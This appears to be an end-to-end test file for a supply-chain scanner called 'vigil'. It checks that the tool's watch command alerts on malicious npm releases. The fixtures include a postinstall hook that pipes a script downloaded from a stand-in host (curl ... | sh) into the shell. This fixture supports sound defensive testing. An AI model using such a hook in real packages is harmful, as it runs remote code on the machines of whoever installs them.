/**
 * End to end on the embedded default (SQLite + in-process queue), through the real CLI: `vigil watch
 * run` follows a replayed npm `_changes` feed; a malicious release appears in it, is downloaded from a
 * loopback registry, scanned by the real analyser, and its alert lands in the JSON-lines file within
 * 10 s. Also `watch add/list/run --once` on a project whose direct dependency ships a malicious update.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { fileURLToPath } from 'node:url';
import { main } from '../../src/cli/main.js';
import { after, before, describe, test } from 'node:test';
import { npmVersion, startRegistryServer } from '../helpers/registry-server.js';
import type { RegistryServer } from '../helpers/registry-server.js';
import { fixture, startReplayServer } from '../feeds/replay-server.js';
import type { ReplayServer } from '../feeds/replay-server.js';

const BIN = fileURLToPath(new URL('../../../bin/vigil.js', import.meta.url));
const EVIL_SCRIPT = 'curl -s http://payload.example.invalid/x.sh | sh';

/** Runs `vigil <args>` in-process through the CLI entry, capturing its output. */
async function run(args: string[], env: NodeJS.ProcessEnv): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const sink = (append: (s: string) => void): Writable => new Writable({ write(chunk: Buffer, _enc, cb) { append(chunk.toString()); cb(); } });
  const code = await main(args, { stdout: sink((s) => (stdout += s)), stderr: sink((s) => (stderr += s)), env, cwd: env.HOME ?? '/' });
  return { code, stdout, stderr };
}

describe('vigil watch (CLI, embedded default)', () => {
  const dir = mkdtempSync(join(tmpdir(), 'vigil-watch-e2e-'));
  let registry: RegistryServer;
  let feeds: ReplayServer;
  let env: NodeJS.ProcessEnv;
  before(async () => {
    registry = await startRegistryServer({
      npm: [
        { name: 'left-pad-ng', versions: [npmVersion('left-pad-ng', '1.3.0', { 'index.js': 'module.exports = (s) => s;\n' })] },
        { name: '@acme/widgets', versions: [npmVersion('@acme/widgets', '2.0.0', { 'index.js': 'module.exports = {};\n' })] },
        { name: 'evil-pkg', versions: [npmVersion('evil-pkg', '0.0.9', { 'index.js': 'module.exports = 1;\n' }, { manifest: { scripts: { postinstall: EVIL_SCRIPT } } })] },
        {
          name: 'dep-lib',
          versions: [
            npmVersion('dep-lib', '1.0.0', { 'index.js': 'module.exports = 1;\n' }),
            npmVersion('dep-lib', '1.1.0', { 'index.js': 'module.exports = 1;\n' }, { manifest: { scripts: { postinstall: EVIL_SCRIPT } } }),
          ],
        },
      ],
    });
    feeds = await startReplayServer();
    env = {
      PATH: process.env.PATH ?? '/usr/bin:/bin',
      HOME: dir,
      VIGIL_DATA_DIR: join(dir, 'data'),
      VIGIL_CACHE_DIR: join(dir, 'cache'),
      npm_config_registry: registry.npmRegistryUrl,
      PIP_INDEX_URL: registry.pypiIndexUrl,
    };
  });
  after(async () => {
    await registry.close();
    await feeds.close();
    rmSync(dir, { recursive: true, force: true });
  });

  test('a malicious release in the npm changes feed is alerted within 10 s', { timeout: 40_000 }, async () => {
    const alertsFile = join(dir, 'alerts.jsonl');
    // The feed is quiet after seq 41000005 until the malicious release "appears".
    feeds.set('changes:41000005', fixture('npm-changes-41000007.json').replace('41000007', '41000005'), 'application/json');
    const child = spawn(process.execPath, [
      BIN, 'watch', 'run', '--interval', '1', '--feed', 'npm-changes', '--npm-replicate-url', `${feeds.url}/registry`,
      '--alerts-file', alertsFile, '--store', join(dir, 'feed.db'), '--dashboard-url', 'http://dash.test:8080',
    ], { env, stdio: ['ignore', 'pipe', 'pipe'] });
    let stderr = '';
    child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
    child.stdout.resume();
    try {
      const waitUntil = async (pred: () => boolean, ms: number, what: string): Promise<void> => {
        const end = Date.now() + ms;
        while (!pred()) {
          if (Date.now() > end || child.exitCode !== null) throw new Error(`${what}; stderr: ${stderr}`);
          await new Promise((r) => setTimeout(r, 50));
        }
      };
      await waitUntil(() => feeds.requests.some((r) => r.includes('since=41000005')), 15_000, 'watcher did not reach the feed head');
      const t0 = Date.now();
      feeds.set('changes:41000005', fixture('npm-changes-41000005.json'), 'application/json');
      await waitUntil(() => existsSync(alertsFile) && readFileSync(alertsFile, 'utf8').includes('evil-pkg'), 10_000, 'no alert within 10 s');
      const latency = Date.now() - t0;
      const alerts = readFileSync(alertsFile, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { key: string; evidenceUrl: string; title: string });
      assert.deepEqual(alerts.map((a) => a.key), ['release:npm:evil-pkg@0.0.9:malicious'], 'clean releases of the feed raise nothing');
      assert.equal(alerts[0]?.evidenceUrl, 'http://dash.test:8080/release/npm/evil-pkg/0.0.9');
      assert.ok(latency < 10_000, `latency ${latency} ms`);
      process.stderr.write(`# alert latency: ${latency} ms\n`);
    } finally {
      child.kill('SIGTERM');
      await new Promise((r) => (child.exitCode !== null ? r(undefined) : child.once('exit', r)));
    }
    assert.equal(child.exitCode, 0, `clean shutdown on SIGTERM; stderr: ${stderr}`);
  });

  test('watch add / list / run --once on a project with a malicious dependency update', { timeout: 30_000 }, async () => {
    const proj = join(dir, 'app');
    mkdirSync(proj);
    writeFileSync(join(proj, 'package.json'), JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { 'dep-lib': '^1.0.0' } }));
    writeFileSync(join(proj, 'package-lock.json'), JSON.stringify({
      name: 'app', version: '1.0.0', lockfileVersion: 3,
      packages: {
        '': { name: 'app', version: '1.0.0', dependencies: { 'dep-lib': '^1.0.0' } },
        'node_modules/dep-lib': { version: '1.0.0', resolved: `${registry.npmRegistryUrl}dep-lib/-/dep-lib-1.0.0.tgz` },
      },
    }));
    const add = await run(['watch', 'add', proj], env);
    assert.equal(add.code, 0, add.stderr);
    assert.match(add.stdout, /watching app \([0-9a-f]{12}\): 1 direct dependencies/);
    const bad = await run(['watch', 'add', join(dir, 'nothing-here')], env);
    assert.equal(bad.code, 2);
    assert.match(bad.stderr, /no such file or directory/);
    assert.ok(!bad.stderr.includes('    at '), 'no stack trace');

    const first = await run(['watch', 'run', '--once'], env);
    assert.equal(first.code, 1, `new alerts -> exit 1; ${first.stderr}`);
    assert.match(first.stdout, /ALERT \[critical\] app: new release dep-lib@1\.1\.0 \(you use 1\.0\.0\) is malicious/);
    const second = await run(['watch', 'run', '--once'], env);
    assert.equal(second.code, 0, `nothing new -> exit 0; ${second.stdout} ${second.stderr}`);
    assert.ok(!second.stdout.includes('ALERT'));

    const list = await run(['watch', 'list', '--json'], env);
    const projects = JSON.parse(list.stdout) as { status: string; dependencies: unknown[] }[];
    assert.equal(projects[0]?.status, 'alert');
    const help = await run(['watch', '--help'], env);
    assert.equal(help.code, 0);
    assert.match(help.stdout, /vigil watch run/);
  });
});
